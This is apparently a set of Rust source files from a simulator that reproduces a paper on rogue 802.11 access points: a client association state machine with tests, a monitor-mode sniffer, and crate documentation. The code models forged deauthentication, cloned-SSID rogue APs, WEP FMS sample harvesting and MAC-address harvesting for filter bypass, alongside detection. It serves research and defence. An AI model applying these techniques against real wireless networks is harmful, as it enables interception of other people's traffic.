        self.state_deadline = now + JOIN_TIMEOUT;
    }

    fn on_assoc_resp(
        &mut self,
        now: SimTime,
        frame: &Frame,
        status: u16,
        out: &mut Vec<MacOutput>,
    ) {
        if self.state != StaState::Associating {
            return;
        }
        let Some(t) = self.target.clone() else { return };
        if frame.addr2 != t.bssid {
            return;
        }
        if status != 0 {
            self.fail_target(now, out);
            return;
        }
        self.state = StaState::Associated;
        self.bssid = Some(t.bssid);
        self.last_beacon = now;
        out.push(MacOutput::Event(MacEvent::Associated {
            bssid: t.bssid,
            channel: t.channel,
            rssi_dbm: t.rssi_dbm,
        }));
    }

    fn on_data(&mut self, frame: &Frame, payload: Bytes, out: &mut Vec<MacOutput>) {
        if !frame.from_ds {
            return;
        }
        if self.state != StaState::Associated || Some(frame.bssid()) != self.bssid {
            return;
        }
        // WEP genuinely decrypts into a fresh buffer; plaintext stays a
        // zero-copy view of the receive allocation.
        let plain: Bytes = if frame.protected {
            let Some(key) = &self.cfg.wep else {
                self.wep_failures += 1;
                return;
            };
            match wep::open(key, &payload) {
                Ok(p) => Bytes::from(p),
                Err(_) => {
                    self.wep_failures += 1;
                    out.push(MacOutput::Event(MacEvent::WepDecryptFailed {
                        from: frame.addr2,
                    }));
                    return;
                }
            }
        } else {
            if self.cfg.wep.is_some() {
                // Cleartext data on a privacy BSS: drop.
                return;
            }
            payload
        };
        let Some((ethertype, _)) = decode_llc(&plain) else {
            return;
        };
        self.data_rx += 1;
        out.push(MacOutput::DeliverData {
            src: frame.sa(),
            dst: frame.da(),
            ethertype,
            payload: plain.slice(LLC_SNAP_LEN..),
        });
    }

    fn fail_target(&mut self, now: SimTime, out: &mut Vec<MacOutput>) {
        if let Some(t) = self.target.take() {
            if let Some(c) = self
                .candidates
                .iter_mut()
                .find(|c| c.bssid == t.bssid && c.channel == t.channel)
            {
                c.failures += 1;
            }
        }
        self.txq.flush();
        self.start_scan(now, out);
    }

    fn lose_association(&mut self, now: SimTime, forced: bool, out: &mut Vec<MacOutput>) {
        self.pending_roam = false;
        self.weak_beacons = 0;
        let bssid = self.bssid.take().unwrap_or(MacAddr::ZERO);
        self.txq.flush();
        out.push(MacOutput::Event(MacEvent::Disassociated { bssid, forced }));
        if self.cfg.auto_reconnect {
            self.candidates.clear();
            self.start_scan(now, out);
        } else {
            self.state = StaState::Detached;
        }
    }

    fn start_scan(&mut self, now: SimTime, out: &mut Vec<MacOutput>) {
        self.state = StaState::Scanning;
        self.scan_idx = 0;
        self.channel = self.cfg.channels[0];
        self.state_deadline = now + self.cfg.scan_dwell;
        out.push(MacOutput::SetChannel(self.channel));
    }

    /// Drive timers: scan progression, join timeouts, beacon loss, and the
    /// transmit queue.
    pub fn poll(&mut self, now: SimTime, out: &mut Vec<MacOutput>) {
        self.txq.poll(now, out);
        if self.pending_roam {
            self.pending_roam = false;
            if self.state == StaState::Associated {
                self.lose_association(now, false, out);
                return;
            }
        }
        match self.state {
            StaState::Scanning => {
                if now >= self.state_deadline {
                    self.scan_idx += 1;
                    if self.scan_idx < self.cfg.channels.len() {
                        self.channel = self.cfg.channels[self.scan_idx];
                        self.state_deadline = now + self.cfg.scan_dwell;
                        out.push(MacOutput::SetChannel(self.channel));
                    } else {
                        self.finish_scan(now, out);
                    }
                }
            }
            StaState::Authenticating | StaState::Associating => {
                if now >= self.state_deadline {
                    self.fail_target(now, out);
                }
            }
            StaState::Associated => {
                if now >= self.last_beacon.saturating_add(BEACON_LOSS) {
                    self.lose_association(now, false, out);
                }
            }
            StaState::Detached => {}
        }
    }

    /// Conservative "could the next `poll` at `now` emit `SetChannel`?"
    /// predicate for the parallel burst dispatcher's hazard scan. Must
    /// over-approximate: returning `true` merely forces the event onto
    /// the serial path; returning `false` for a poll that *does* retune
    /// would break bit-identity. Every path in [`Self::poll`] that can
    /// reach `start_scan`/`finish_scan`/`fail_target` (the only
    /// `SetChannel` emitters) is covered: a pending roam, an expired
    /// state deadline, or beacon loss.
    pub fn poll_may_retune(&self, now: SimTime) -> bool {
        if self.pending_roam {
            return true;
        }
        match self.state {
            StaState::Scanning | StaState::Authenticating | StaState::Associating => {
                now >= self.state_deadline
            }
            StaState::Associated => now >= self.last_beacon.saturating_add(BEACON_LOSS),
            StaState::Detached => false,
        }
    }

    /// Conservative "could receiving `bytes` lead to a `SetChannel`
    /// within this burst?" predicate, the receive-side half of the
    /// hazard scan. Considers both direct retunes (a Deauth triggering
    /// `start_scan` inside `on_receive`) and *enabling* ones: a weak
    /// beacon while associated can arm `pending_roam`, which retunes at
    /// a later poll in the same burst. All other transitions only push
    /// deadlines forward, so they cannot newly enable a retune that
    /// [`Self::poll_may_retune`] did not already flag.
    pub fn rx_may_retune(&self, bytes: &[u8], rssi_dbm: f64) -> bool {
        if bytes.len() < 2 {
            return false;
        }
        let fc = u16::from_le_bytes([bytes[0], bytes[1]]);
        if (fc >> 2) & 0x3 != 0 {
            return false; // only management frames drive the join FSM
        }
        match (fc >> 4) & 0xF {
            // Disassoc / Deauth: may force an immediate rescan.
            10 | 12 => true,
            // Auth response: a bad status fails the target and rescans.
            11 => self.state == StaState::Authenticating,
            // Assoc response: same failure path.
            1 => self.state == StaState::Associating,
            // Beacon / ProbeResp: only hazardous as a weak-signal roam
            // trigger on the current association.
            8 | 5 => self.state == StaState::Associated && rssi_dbm < self.cfg.min_rssi_dbm,
            _ => false,
        }
    }

    fn finish_scan(&mut self, now: SimTime, out: &mut Vec<MacOutput>) {
        // Pick the strongest usable candidate — the cloned-SSID rogue AP
        // wins exactly when its signal beats the legitimate AP's.
        let best = self
            .candidates
            .iter()
            .filter(|c| c.failures < MAX_JOIN_FAILURES)
            .cloned()
            .max_by(|a, b| a.rssi_dbm.partial_cmp(&b.rssi_dbm).expect("no NaN rssi"));
        match best {
            Some(c) => {
                self.channel = c.channel;
                out.push(MacOutput::SetChannel(c.channel));
                let f = Frame::new(
                    c.bssid,
                    self.cfg.mac,
                    c.bssid,
                    FrameBody::Auth {
                        algorithm: 0,
                        seq: 1,
                        status: 0,
                    },
                );
                self.txq.push(now, f, Bitrate::B1, true);
                self.target = Some(c);
                self.state = StaState::Authenticating;
                self.state_deadline = now + JOIN_TIMEOUT;
            }
            None => {
                // Nothing heard: sweep again.
                self.candidates.retain(|c| c.failures < MAX_JOIN_FAILURES);
                self.start_scan(now, out);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rogue_sim::Seed;

    fn cfg() -> StaConfig {
        StaConfig::typical(MacAddr::local(10), "CORP", None)
    }

    fn beacon(bssid: MacAddr, ssid: &str, cap: u16, channel: u8) -> Bytes {
        Frame::new(
            MacAddr::BROADCAST,
            bssid,
            bssid,
            FrameBody::Beacon(crate::frame::MgmtInfo {
                timestamp: 0,
                beacon_interval_tu: 100,
                capability: cap,
                ssid: ssid.into(),
                channel,
            }),
        )
        .encode()
    }

    /// Drive a station through its timers until `pred` or the deadline.
    fn run_until(
        sta: &mut StaMac,
        mut now: SimTime,
        deadline: SimTime,
        mut on_out: impl FnMut(SimTime, &MacOutput) -> bool,
    ) -> SimTime {
        loop {
            let wake = sta.next_wake();
            if wake > deadline || wake == SimTime::FOREVER {
                return now;
            }
            now = wake;
            let mut out = Vec::new();
            sta.poll(now, &mut out);
            for o in &out {
                if on_out(now, o) {
                    return now;
                }
            }
        }
    }

    #[test]
    fn scans_all_channels_then_rescans() {
        let mut sta = StaMac::new(cfg(), SimRng::new(Seed(1)), SimTime::ZERO);
        let mut channels = Vec::new();
        run_until(&mut sta, SimTime::ZERO, SimTime::from_secs(1), |_, o| {
            if let MacOutput::SetChannel(c) = o {
                channels.push(*c);
            }
            channels.len() >= 4
        });
        // After sweeping 1, 6, 11 with no beacons it starts over at 1.
        assert_eq!(&channels[..4], &[6, 11, 1, 6]);
    }

    #[test]
    fn associates_with_beaconing_ap() {
        let ap = MacAddr::local(99);
        let mut sta = StaMac::new(cfg(), SimRng::new(Seed(2)), SimTime::ZERO);
        let b = beacon(ap, "CORP", CAP_ESS, 1);
        let mut out = Vec::new();
        sta.on_receive(SimTime::from_millis(10), &b, -50.0, 1, &mut out);
        assert_eq!(sta.beacons_heard, 1);

        // Walk the state machine manually: scan finishes, Auth goes out.
        let mut auth_seen = false;
        let mut now = SimTime::from_millis(10);
        for _ in 0..64 {
            let wake = sta.next_wake();
            if wake == SimTime::FOREVER {
                break;
            }
            now = wake;
            let mut out = Vec::new();
            sta.poll(now, &mut out);
            for o in out {
                if let MacOutput::Tx { bytes, .. } = o {
                    let f = Frame::decode(&bytes).unwrap();
                    if matches!(f.body, FrameBody::Auth { seq: 1, .. }) {
                        auth_seen = true;
                        assert_eq!(f.addr1, ap);
                    }
                }
            }
            if auth_seen {
                break;
            }
        }
        assert!(auth_seen, "station must try to authenticate");
        assert_eq!(*sta.state(), StaState::Authenticating);

        // AP responds: auth success, then assoc success.
        let mut out = Vec::new();
        let auth_ok = Frame::new(
            sta.mac(),
            ap,
            ap,
            FrameBody::Auth {
                algorithm: 0,
                seq: 2,
                status: 0,
            },
        )
        .encode();
        sta.on_receive(now, &auth_ok, -50.0, 1, &mut out);
        assert_eq!(*sta.state(), StaState::Associating);

        let assoc_ok = Frame::new(
            sta.mac(),
            ap,
            ap,
            FrameBody::AssocResp {
                capability: CAP_ESS,
                status: 0,
                aid: 1,
            },
        )
        .encode();
        let mut out = Vec::new();
        sta.on_receive(now, &assoc_ok, -50.0, 1, &mut out);
        assert_eq!(*sta.state(), StaState::Associated);
        assert_eq!(sta.bssid(), Some(ap));
        assert!(out
            .iter()
            .any(|o| matches!(o, MacOutput::Event(MacEvent::Associated { .. }))));
    }

    #[test]
    fn prefers_stronger_ap_with_same_ssid() {
        // Two APs, same SSID — the rogue is stronger. The station picks it.
        let legit = MacAddr::local(1);
        let rogue = MacAddr::local(666);
        let mut sta = StaMac::new(cfg(), SimRng::new(Seed(3)), SimTime::ZERO);
        let mut out = Vec::new();
        sta.on_receive(
            SimTime::from_millis(5),
            &beacon(legit, "CORP", CAP_ESS, 1),
            -70.0,
            1,
            &mut out,
        );
        sta.on_receive(
            SimTime::from_millis(6),
            &beacon(rogue, "CORP", CAP_ESS, 6),
            -45.0,
            6,
            &mut out,
        );

        let mut target = None;
        for _ in 0..64 {
            let wake = sta.next_wake();
            if wake == SimTime::FOREVER {
                break;
            }
            let mut out = Vec::new();
            sta.poll(wake, &mut out);
            for o in out {
                if let MacOutput::Tx { bytes, .. } = o {
                    let f = Frame::decode(&bytes).unwrap();
                    if matches!(f.body, FrameBody::Auth { .. }) {
                        target = Some(f.addr1);
                    }
                }
            }
            if target.is_some() {
                break;
            }
        }
        assert_eq!(target, Some(rogue), "strongest AP wins the join");
    }

    #[test]
    fn privacy_mismatch_filters_candidates() {
        // A WEP-profile station ignores an open AP with the right SSID.
        let key = WepKey::new(b"AB#12");
        let cfg = StaConfig::typical(MacAddr::local(10), "CORP", Some(key));
        let mut sta = StaMac::new(cfg, SimRng::new(Seed(4)), SimTime::ZERO);
        let open_ap = MacAddr::local(1);
        let mut out = Vec::new();
        sta.on_receive(
            SimTime::from_millis(5),
            &beacon(open_ap, "CORP", CAP_ESS, 1),
            -40.0,
            1,
            &mut out,
        );
        // Complete a full scan; station should go back to scanning, not auth.
        let t = run_until(&mut sta, SimTime::ZERO, SimTime::from_secs(1), |_, o| {
            matches!(o, MacOutput::Tx { .. })
        });
        assert_eq!(*sta.state(), StaState::Scanning, "no join attempted by {t}");
    }

    #[test]
    fn wrong_ssid_ignored() {
        let mut sta = StaMac::new(cfg(), SimRng::new(Seed(5)), SimTime::ZERO);
        let mut out = Vec::new();
        sta.on_receive(
            SimTime::from_millis(5),
            &beacon(MacAddr::local(1), "COFFEE", CAP_ESS, 1),
            -40.0,
            1,
            &mut out,
        );
        assert_eq!(sta.beacons_heard, 0);
    }

    #[test]
    fn deauth_forces_rescan() {
        let ap = MacAddr::local(99);
        let mut sta = associated_station(ap);
        let mut out = Vec::new();
        // Forged deauth: addr2/addr3 = BSSID (what the attacker spoofs).
        let deauth = Frame::new(sta.mac(), ap, ap, FrameBody::Deauth { reason: 7 }).encode();
        sta.on_receive(SimTime::from_secs(1), &deauth, -60.0, 1, &mut out);
        assert!(out.iter().any(|o| matches!(
            o,
            MacOutput::Event(MacEvent::Disassociated { forced: true, .. })
        )));
        assert_eq!(*sta.state(), StaState::Scanning);
        assert_eq!(sta.bssid(), None);
    }

    #[test]
    fn no_auto_reconnect_detaches() {
        let ap = MacAddr::local(99);
        let mut c = cfg();
        c.auto_reconnect = false;
        let mut sta = associated_station_with(c, ap);
        let mut out = Vec::new();
        let deauth = Frame::new(sta.mac(), ap, ap, FrameBody::Deauth { reason: 7 }).encode();
        sta.on_receive(SimTime::from_secs(1), &deauth, -60.0, 1, &mut out);
        assert_eq!(*sta.state(), StaState::Detached);
        assert_eq!(sta.next_wake(), SimTime::FOREVER);
    }

    #[test]
    fn beacon_loss_triggers_rescan() {
        let ap = MacAddr::local(99);
        let mut sta = associated_station(ap);
        let mut out = Vec::new();
        // No beacons for > BEACON_LOSS.
        let late = SimTime::from_secs(5);
        sta.poll(late, &mut out);
        assert!(out.iter().any(|o| matches!(
            o,
            MacOutput::Event(MacEvent::Disassociated { forced: false, .. })
        )));
        assert_eq!(*sta.state(), StaState::Scanning);
    }

    #[test]
    fn sends_and_receives_data_when_associated() {
        let ap = MacAddr::local(99);
        let mut sta = associated_station(ap);
        assert!(sta.send_data(SimTime::from_secs(1), MacAddr::local(50), 0x0800, b"ping"));
        assert_eq!(sta.data_tx, 1);

        // Downlink data from the AP.
        let mut f = Frame::new(
            sta.mac(),
            ap,
            MacAddr::local(50),
            FrameBody::Data {
                payload: Bytes::from(encode_llc(0x0800, b"pong")),
            },
        );
        f.from_ds = true;
        f.seq = 7;
        let mut out = Vec::new();
        sta.on_receive(SimTime::from_secs(1), &f.encode(), -50.0, 1, &mut out);
        let delivered = out.iter().find_map(|o| match o {
            MacOutput::DeliverData {
                src,
                ethertype,
                payload,
                ..
            } => Some((*src, *ethertype, payload.clone())),
            _ => None,
        });
        let (src, et, payload) = delivered.expect("data delivered");
        assert_eq!(src, MacAddr::local(50));
        assert_eq!(et, 0x0800);
        assert_eq!(&payload[..], b"pong");
        // And an ACK went back.
        assert!(out.iter().any(|o| matches!(o, MacOutput::Tx { .. })));
    }

    #[test]
    fn cannot_send_when_not_associated() {
        let mut sta = StaMac::new(cfg(), SimRng::new(Seed(7)), SimTime::ZERO);
        assert!(!sta.send_data(SimTime::ZERO, MacAddr::local(50), 0x0800, b"x"));
    }

    #[test]
    fn wep_data_roundtrip_and_tamper_detection() {
        let key = WepKey::new(b"AB#12");
        let ap = MacAddr::local(99);
        let mut c = StaConfig::typical(MacAddr::local(10), "CORP", Some(key.clone()));
        c.auto_reconnect = true;
        let mut sta = associated_station_with(c, ap);

        // Valid protected downlink frame.
        let body = wep::seal(&key, [1, 2, 3], 0, &encode_llc(0x0800, b"secret"));
        let mut f = Frame::new(
            sta.mac(),
            ap,
            MacAddr::local(50),
            FrameBody::Data {
                payload: Bytes::from(body),
            },
        );
        f.from_ds = true;
        f.protected = true;
        f.seq = 1;
        let mut out = Vec::new();
        sta.on_receive(SimTime::from_secs(1), &f.encode(), -50.0, 1, &mut out);
        assert_eq!(sta.data_rx, 1);

        // Tampered protected frame (bad ICV after bit flips w/o patch).
        let mut body = wep::seal(&key, [1, 2, 4], 0, &encode_llc(0x0800, b"secret"));
        let blen = body.len();
        body[blen - 1] ^= 0xFF;
        let mut f = Frame::new(
            sta.mac(),
            ap,
            MacAddr::local(50),
            FrameBody::Data {
                payload: Bytes::from(body),
            },
        );
        f.from_ds = true;
        f.protected = true;
        f.seq = 2;
        let mut out = Vec::new();
        sta.on_receive(SimTime::from_secs(1), &f.encode(), -50.0, 1, &mut out);
        assert_eq!(sta.wep_failures, 1);
        assert!(out
            .iter()
            .any(|o| matches!(o, MacOutput::Event(MacEvent::WepDecryptFailed { .. }))));
    }

    #[test]
    fn duplicate_retransmission_suppressed() {
        let ap = MacAddr::local(99);
        let mut sta = associated_station(ap);
        let mut f = Frame::new(
            sta.mac(),
            ap,
            MacAddr::local(50),
            FrameBody::Data {
                payload: Bytes::from(encode_llc(0x0800, b"once")),
            },
        );
        f.from_ds = true;
        f.seq = 42;
        let bytes = f.encode();
        let mut out = Vec::new();
        sta.on_receive(SimTime::from_secs(1), &bytes, -50.0, 1, &mut out);
        // Same frame again, retry flag set.
        f.retry = true;
        let bytes_retry = f.encode();
        sta.on_receive(SimTime::from_secs(1), &bytes_retry, -50.0, 1, &mut out);
        assert_eq!(sta.data_rx, 1, "duplicate dropped");
    }

    #[test]
    fn retune_predicates_over_approximate_set_channel() {
        let ap = MacAddr::local(99);

        // Freshly associated, beacon just heard: no timer can fire, no
        // roam pending — polling now must neither be flagged nor retune.
        let mut sta = associated_station(ap);
        let now = SimTime::from_secs(1);
        assert!(!sta.poll_may_retune(now));
        let mut out = Vec::new();
        sta.poll(now, &mut out);
        assert!(!out.iter().any(|o| matches!(o, MacOutput::SetChannel(_))));

        // Past the beacon-loss horizon the predicate must flag (and the
        // poll does retune).
        let late = now + BEACON_LOSS + BEACON_LOSS;
        assert!(sta.poll_may_retune(late));

        // Receive-side: a data frame can never retune.
        let mut data = Frame::new(
            sta.mac(),
            ap,
            MacAddr::local(50),
            FrameBody::Data {
                payload: Bytes::from(encode_llc(0x0800, b"x")),
            },
        );
        data.from_ds = true;
        assert!(!sta.rx_may_retune(&data.encode(), -50.0));

        // A deauth from our BSS must be flagged — it retunes immediately.
        let deauth = Frame::new(sta.mac(), ap, ap, FrameBody::Deauth { reason: 7 }).encode();
        assert!(sta.rx_may_retune(&deauth, -50.0));
        let mut out = Vec::new();
        sta.on_receive(now, &deauth, -50.0, 1, &mut out);
        assert!(out.iter().any(|o| matches!(o, MacOutput::SetChannel(_))));

        // A weak own-BSS beacon is an *enabling* hazard: it can arm
        // pending_roam, which the poll-side predicate then catches.
        let mut sta = associated_station(ap);
        let weak = beacon(ap, "CORP", CAP_ESS, 1);
        assert!(sta.rx_may_retune(&weak, -95.0));
        assert!(
            !sta.rx_may_retune(&weak, -50.0),
            "strong beacons only refresh timers"
        );
        for _ in 0..sta.cfg.roam_weak_beacons {
            let mut out = Vec::new();
            sta.on_receive(now, &weak, -95.0, 1, &mut out);
        }
        assert!(sta.poll_may_retune(now), "armed roam must be flagged");
    }

    // --- helpers -------------------------------------------------------

    fn associated_station(ap: MacAddr) -> StaMac {
        associated_station_with(cfg(), ap)
    }

    fn associated_station_with(c: StaConfig, ap: MacAddr) -> StaMac {
        let wants_privacy = c.wep.is_some();
        let cap = if wants_privacy {
            CAP_ESS | CAP_PRIVACY
        } else {
            CAP_ESS
        };
        let mut sta = StaMac::new(c, SimRng::new(Seed(42)), SimTime::ZERO);
        let mut out = Vec::new();
        sta.on_receive(
            SimTime::from_millis(5),
            &beacon(ap, "CORP", cap, 1),
            -50.0,
            1,
            &mut out,
        );
        // March through scan -> auth -> assoc.
        let mut now;
        for _ in 0..128 {
            if *sta.state() == StaState::Associated {
                break;
            }
            let wake = sta.next_wake();
            assert_ne!(wake, SimTime::FOREVER, "stuck");
            now = wake;
            let mut out = Vec::new();
            sta.poll(now, &mut out);
            let mut inject = Vec::new();
            for o in &out {
                if let MacOutput::Tx { bytes, .. } = o {
                    let f = Frame::decode(bytes).unwrap();
                    match f.body {
                        FrameBody::Auth { seq: 1, .. } => {
                            inject.push(
                                Frame::new(
                                    sta.mac(),
                                    ap,
                                    ap,
                                    FrameBody::Auth {
                                        algorithm: 0,
                                        seq: 2,
                                        status: 0,
                                    },
                                )
                                .encode(),
                            );
                        }
                        FrameBody::AssocReq { .. } => {
                            inject.push(
                                Frame::new(
                                    sta.mac(),
                                    ap,
                                    ap,
                                    FrameBody::AssocResp {
                                        capability: cap,
                                        status: 0,
                                        aid: 1,
                                    },
                                )
                                .encode(),
                            );
                        }
                        _ => {}
                    }
                }
            }
            for bytes in inject {
                let mut out = Vec::new();
                sta.on_receive(now, &bytes, -50.0, 1, &mut out);
            }
        }
        assert_eq!(
            *sta.state(),
            StaState::Associated,
            "helper failed to associate"
        );
        sta
    }
}
