//! Promiscuous ("monitor mode") capture.
//!
//! A sniffer is nothing but a radio that keeps every frame it can decode.
//! Two consumers in the reproduction:
//!
//! * the attacker (`rogue-attack`): harvests WEP FMS samples and valid
//!   client MACs for the ACL bypass,
//! * the defender (`rogue-detect`): watches BSSIDs, channels and sequence
//!   numbers for rogue-AP fingerprints.

use bytes::Bytes;
use rogue_crypto::fms::Sample;
use rogue_crypto::wep;
use rogue_sim::SimTime;

use crate::addr::MacAddr;
use crate::frame::{Frame, FrameBody};

/// One captured frame with radio metadata.
#[derive(Clone, Debug)]
pub struct Capture {
    /// Capture timestamp.
    pub at: SimTime,
    /// RSSI at the sniffer, dBm.
    pub rssi_dbm: f64,
    /// Channel the sniffer was tuned to.
    pub channel: u8,
    /// Parsed frame.
    pub frame: Frame,
}

/// A passive capture buffer.
#[derive(Default)]
pub struct Sniffer {
    /// All decodable frames seen, in order.
    pub captures: Vec<Capture>,
    /// Frames that failed to parse (corrupt FCS slips through PHY rarely;
    /// counted for completeness).
    pub undecodable: u64,
}

impl Sniffer {
    /// Fresh, empty sniffer.
    pub fn new() -> Sniffer {
        Sniffer::default()
    }

    /// Feed a PHY delivery.
    pub fn on_receive(&mut self, at: SimTime, bytes: &Bytes, rssi_dbm: f64, channel: u8) {
        match Frame::decode(bytes) {
            Ok(frame) => self.captures.push(Capture {
                at,
                rssi_dbm,
                channel,
                frame,
            }),
            Err(_) => self.undecodable += 1,
        }
    }

    /// Number of captures.
    pub fn len(&self) -> usize {
        self.captures.len()
    }

    /// True when nothing was captured.
    pub fn is_empty(&self) -> bool {
        self.captures.is_empty()
    }

    /// FMS samples from every protected data frame seen — IV plus first
    /// ciphertext byte, with the LLC/SNAP known-plaintext assumption.
    pub fn wep_samples(&self) -> Vec<Sample> {
        self.captures
            .iter()
            .filter_map(|c| match &c.frame.body {
                FrameBody::Data { payload } if c.frame.protected => {
                    let iv = wep::peek_iv(payload)?;
                    let ct0 = wep::peek_first_ct_byte(payload)?;
                    Some(Sample::from_capture(iv, ct0))
                }
                _ => None,
            })
            .collect()
    }

    /// Distinct transmitter addresses observed sending to-DS data to
    /// `bssid` — the "valid MACs can be sniffed" harvest used to defeat
    /// MAC filtering.
    pub fn client_macs(&self, bssid: MacAddr) -> Vec<MacAddr> {
        let mut out: Vec<MacAddr> = self
            .captures
            .iter()
            .filter(|c| {
                matches!(c.frame.body, FrameBody::Data { .. })
                    && c.frame.to_ds
                    && c.frame.addr1 == bssid
            })
            .map(|c| c.frame.addr2)
            .collect();
        out.sort();
        out.dedup();
        out
    }

    /// The (time, sequence-number, channel, rssi) stream for frames whose
    /// transmitter address is `ta` — the §2.3 detector's input.
    pub fn seq_stream(&self, ta: MacAddr) -> Vec<(SimTime, u16, u8, f64)> {
        self.captures
            .iter()
            .filter(|c| c.frame.addr2 == ta && c.frame.body != FrameBody::Ack)
            .map(|c| (c.at, c.frame.seq, c.channel, c.rssi_dbm))
            .collect()
    }

    /// Beacon observations: (time, bssid, ssid, claimed channel, heard-on
    /// channel, rssi).
    pub fn beacons(&self) -> Vec<(SimTime, MacAddr, String, u8, u8, f64)> {
        self.captures
            .iter()
            .filter_map(|c| match &c.frame.body {
                FrameBody::Beacon(info) => Some((
                    c.at,
                    c.frame.bssid(),
                    info.ssid.clone(),
                    info.channel,
                    c.channel,
                    c.rssi_dbm,
                )),
                _ => None,
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::frame::{encode_llc, MgmtInfo, CAP_ESS};
    use rogue_crypto::wep::WepKey;

    #[test]
    fn captures_and_counts() {
        let mut s = Sniffer::new();
        let f = Frame::new(
            MacAddr::local(1),
            MacAddr::local(2),
            MacAddr::local(3),
            FrameBody::Deauth { reason: 1 },
        );
        s.on_receive(SimTime::ZERO, &f.encode(), -40.0, 1);
        s.on_receive(SimTime::ZERO, &Bytes::from_static(b"garbage????"), -40.0, 1);
        assert_eq!(s.len(), 1);
        assert_eq!(s.undecodable, 1);
    }

    #[test]
    fn harvests_wep_samples() {
        let key = WepKey::new(b"AB#12");
        let mut s = Sniffer::new();
        for i in 0..5u8 {
            let body = wep::seal(&key, [i, 0xFF, 3], 0, &encode_llc(0x0800, b"x"));
            let mut f = Frame::new(
                MacAddr::local(1),
                MacAddr::local(2),
                MacAddr::local(3),
                FrameBody::Data {
                    payload: Bytes::from(body),
                },
            );
            f.to_ds = true;
            f.protected = true;
            s.on_receive(SimTime::ZERO, &f.encode(), -40.0, 1);
        }
        let samples = s.wep_samples();
        assert_eq!(samples.len(), 5);
        assert_eq!(samples[2].iv, [2, 0xFF, 3]);
    }

    #[test]
    fn harvests_client_macs() {
        let bssid = MacAddr::local(1);
        let mut s = Sniffer::new();
        for n in [10u64, 11, 10] {
            let mut f = Frame::new(
                bssid,
                MacAddr::local(n),
                MacAddr::local(99),
                FrameBody::Data {
                    payload: Bytes::from(encode_llc(0x0800, b"x")),
                },
            );
            f.to_ds = true;
            s.on_receive(SimTime::ZERO, &f.encode(), -40.0, 1);
        }
        let macs = s.client_macs(bssid);
        assert_eq!(macs, vec![MacAddr::local(10), MacAddr::local(11)]);
        assert!(s.client_macs(MacAddr::local(42)).is_empty());
    }

    #[test]
    fn seq_stream_orders_by_capture() {
        let ta = MacAddr::local(2);
        let mut s = Sniffer::new();
        for (t, seq) in [(1u64, 5u16), (2, 6), (3, 7)] {
            let mut f = Frame::new(
                MacAddr::BROADCAST,
                ta,
                ta,
                FrameBody::Beacon(MgmtInfo {
                    timestamp: 0,
                    beacon_interval_tu: 100,
                    capability: CAP_ESS,
                    ssid: "X".into(),
                    channel: 1,
                }),
            );
            f.seq = seq;
            s.on_receive(SimTime::from_millis(t), &f.encode(), -40.0, 1);
        }
        let stream = s.seq_stream(ta);
        assert_eq!(stream.len(), 3);
        assert_eq!(stream[0].1, 5);
        assert_eq!(stream[2].1, 7);
    }

    #[test]
    fn beacon_observations() {
        let mut s = Sniffer::new();
        let f = Frame::new(
            MacAddr::BROADCAST,
            MacAddr::local(1),
            MacAddr::local(1),
            FrameBody::Beacon(MgmtInfo {
                timestamp: 0,
                beacon_interval_tu: 100,
                capability: CAP_ESS,
                ssid: "CORP".into(),
                channel: 6,
            }),
        );
        s.on_receive(SimTime::from_millis(7), &f.encode(), -51.0, 6);
        let b = s.beacons();
        assert_eq!(b.len(), 1);
        let (at, bssid, ssid, claimed, heard, rssi) = &b[0];
        assert_eq!(*at, SimTime::from_millis(7));
        assert_eq!(*bssid, MacAddr::local(1));
        assert_eq!(ssid, "CORP");
        assert_eq!(*claimed, 6);
        assert_eq!(*heard, 6);
        assert_eq!(*rssi, -51.0);
    }
}
