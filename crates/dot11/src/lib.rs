//! # rogue-dot11 — the 802.11 MAC layer
//!
//! Everything the paper's attack manipulates lives here:
//!
//! * [`addr`] — MAC addresses ("valid MACs can be sniffed from the network",
//!   §2.1 — and cloned, which is why MAC filtering "accomplishes nothing
//!   more than perhaps keeping honest people honest"),
//! * [`frame`] — wire codecs for management/control/data frames, including
//!   the cleartext SSID, BSSID and sequence-control fields a sniffer and a
//!   detector both read,
//! * [`sta`] — the client state machine: passive scan → auth → assoc, with
//!   RSSI-best AP selection and **no authentication of the network**, the
//!   root cause the paper identifies (§3.1),
//! * [`ap`] — the access-point state machine: beaconing, association
//!   tables, WEP, MAC-address ACLs; a rogue AP is just this struct
//!   configured with a cloned SSID/BSSID/key (Figure 1),
//! * [`monitor`] — promiscuous capture (what Airsnort and the §2.3
//!   sequence-number detector consume).
//!
//! The MAC entities are poll-style state machines: the embedding world
//! feeds received frames in and drains [`MacOutput`]s (transmissions,
//! upward deliveries, events). Nothing here talks to the scheduler
//! directly, which keeps the layer unit-testable frame by frame.

pub mod addr;
pub mod ap;
pub mod frame;
pub mod monitor;
pub mod output;
pub mod sta;
pub mod txq;

pub use addr::MacAddr;
pub use ap::{ApConfig, ApMac};
pub use frame::{Frame, FrameBody, LLC_SNAP_LEN};
pub use output::{MacEvent, MacOutput};
pub use sta::{StaConfig, StaMac, StaState};

/// Ethertype for IPv4.
pub const ETHERTYPE_IPV4: u16 = 0x0800;
/// Ethertype for ARP.
pub const ETHERTYPE_ARP: u16 = 0x0806;
