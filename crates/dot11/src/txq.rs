//! Shared transmit queue with DCF-flavoured timing: DIFS + random backoff
//! before each attempt, stop-and-wait ACK for unicast frames, exponential
//! contention-window growth on retry, and sequence-number assignment.
//!
//! This is a deliberate simplification of full CSMA/CA (no mid-slot
//! carrier-sense deferral — see DESIGN.md §5): with the light traffic of
//! the reproduced scenarios, randomised start times plus capture-effect
//! collision resolution in `rogue-phy` give the behaviour that matters
//! (occasional collisions, retries, and eventual delivery).

use std::collections::VecDeque;

use rogue_phy::Bitrate;
use rogue_sim::{SimDuration, SimRng, SimTime};

use crate::addr::MacAddr;
use crate::frame::{Frame, FrameBody};
use crate::output::{MacEvent, MacOutput};

/// Slot time (802.11b long-preamble DCF).
pub const SLOT: SimDuration = SimDuration::from_micros(20);
/// Short interframe space.
pub const SIFS: SimDuration = SimDuration::from_micros(10);
/// DCF interframe space.
pub const DIFS: SimDuration = SimDuration::from_micros(50);
/// Minimum contention window (slots − 1).
pub const CW_MIN: u32 = 31;
/// Maximum contention window.
pub const CW_MAX: u32 = 1023;
/// Retry limit before a frame is dropped.
pub const RETRY_LIMIT: u8 = 4;

/// ACK frame airtime at 1 Mbps (14 bytes + PLCP).
fn ack_airtime() -> SimDuration {
    Bitrate::B1.airtime(14)
}

struct Pending {
    frame: Frame,
    bitrate: Bitrate,
